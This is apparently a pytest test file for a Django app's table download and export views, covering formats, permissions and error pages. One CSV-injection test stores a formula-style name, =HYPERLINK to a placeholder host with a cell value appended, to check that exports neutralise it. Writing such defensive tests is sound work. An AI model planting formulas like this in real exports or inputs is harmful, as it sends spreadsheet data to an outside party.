"""Downloads through the exporters; list and history exports (csv, xlsx); all permission-checked."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pytest
from django.urls import reverse

from jixiao.io.writers import exporters


@pytest.mark.parametrize("fmt", sorted(exporters()))
def test_table_downloads_in_every_registered_format(world: Any, fmt: str) -> None:
    table = world.table()
    response = world.client("owner").get(reverse("table-download", args=[table.pk, fmt]))
    assert response.status_code == 200
    cls = exporters()[fmt]
    assert response["Content-Type"] == cls.content_type
    assert "filename*=UTF-8''" in response["Content-Disposition"]
    assert len(response.content) > 100


def test_a_failed_download_is_a_page_in_chinese_not_a_500(
    world: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("JIXIAO_CJK_FONT", "/nonexistent/font.ttf")  # a broken setting
    table = world.table()
    response = world.client("owner").get(reverse("table-download", args=[table.pk, "pdf"]))
    assert response.status_code == 503
    page = response.content.decode("utf-8")
    assert "下载失败" in page and "无法生成 PDF 文件" in page and "Excel 或 Word" in page
    assert reverse("table-detail", args=[table.pk]) in page


def test_a_line_break_or_nul_in_a_name_does_not_break_downloads_or_search(world: Any) -> None:
    """Issue 11, item 10: every download of such a table used to fail on its header."""
    table = world.table(name="第一行\n第二行")
    client = world.client("owner")
    for fmt in ("xlsx", "csv", "json"):
        response = client.get(reverse("table-download", args=[table.pk, fmt]))
        assert response.status_code == 200
        assert "\n" not in response["Content-Disposition"]
    assert client.get(reverse("table-list"), {"q": "第一\x00行"}).status_code == 200


def test_download_json_carries_the_table(world: Any) -> None:
    table = world.table()
    response = world.client("owner").get(reverse("table-download", args=[table.pk, "json"]))
    assert "年均参保缴费人数" in response.content.decode("utf-8")


def test_download_is_404_for_other_units_and_unknown_formats(world: Any) -> None:
    table = world.table()
    assert (
        world.client("colleague")
        .get(reverse("table-download", args=[table.pk, "xlsx"]))
        .status_code
        == 404
    )
    assert (
        world.client("owner").get(reverse("table-download", args=[table.pk, "exe"])).status_code
        == 404
    )


def test_list_export_csv_follows_filters_and_visibility(world: Any) -> None:
    world.table(name="甲项目")
    world.table(name="乙项目")
    world.table(org=world.unit_c, name="丙项目")
    response = world.client("owner").get(reverse("table-list-export", args=["csv"]), {"q": "甲"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][0] == "项目名称"
    assert [r[0] for r in rows[1:]] == ["甲项目"]
    assert Decimal(rows[1][4]) == Decimal("3650.68")
    everything = world.client("owner").get(reverse("table-list-export", args=["csv"]))
    assert "丙项目" not in everything.content.decode("utf-8-sig")


def test_list_export_xlsx_opens(world: Any) -> None:
    from openpyxl import load_workbook

    world.table()
    response = world.client("finance").get(reverse("table-list-export", args=["xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.cell(2, 1).value == "社会基本医疗保险"
    assert Decimal(str(sheet.cell(2, 5).value)) == Decimal("3650.68")


def test_list_exports_write_a_formula_like_name_as_data(world: Any) -> None:
    """OWASP CSV injection: ``=HYPERLINK(…)`` typed as a project name stays text."""
    from openpyxl import load_workbook

    hostile = '=HYPERLINK("http://x.example/?"&A1,"点此")'
    world.table(name=hostile)
    client = world.client("finance")
    sheet = load_workbook(
        io.BytesIO(client.get(reverse("table-list-export", args=["xlsx"])).content)
    ).active
    assert sheet.cell(2, 1).value == hostile and sheet.cell(2, 1).data_type == "s"
    rows = list(
        csv.reader(
            io.StringIO(
                client.get(reverse("table-list-export", args=["csv"])).content.decode("utf-8-sig")
            )
        )
    )
    assert rows[1][0] == "'" + hostile


def test_history_export(world: Any) -> None:
    table = world.table()
    response = world.client("owner").get(reverse("table-history-export", args=[table.pk, "csv"]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][1:3] == ["owner", "create"]
    assert (
        world.client("outsider")
        .get(reverse("table-history-export", args=[table.pk, "csv"]))
        .status_code
        == 404
    )


READABLE = ("xlsx", "docx", "html", "csv", "json", "pdf")


@pytest.mark.parametrize("fmt", READABLE)
def test_a_downloaded_table_reads_back_to_the_stored_one(
    world: Any, fmt: str, tmp_path: Any
) -> None:
    """Issue 24: the file a user downloads holds the table's values, not only some bytes: read
    back with jixiao's own reader, it gives the same name, budget, indicators and targets."""
    from jixiao.services.parsing import parse_file

    table = world.table()
    version = table.current_version
    response = world.client("owner").get(reverse("table-download", args=[table.pk, fmt]))
    path = tmp_path / f"download.{fmt}"
    path.write_bytes(response.content)
    (read,) = parse_file(path).tables
    assert read.header.name == version.project_name
    assert read.header.budget.amount is not None
    assert read.header.budget.amount.in_wan() == version.budget_amount
    stored = [(r.name, r.annual_raw) for r in version.rows.all()]
    assert [(i.name, i.annual_target.raw) for i in read.indicators] == stored
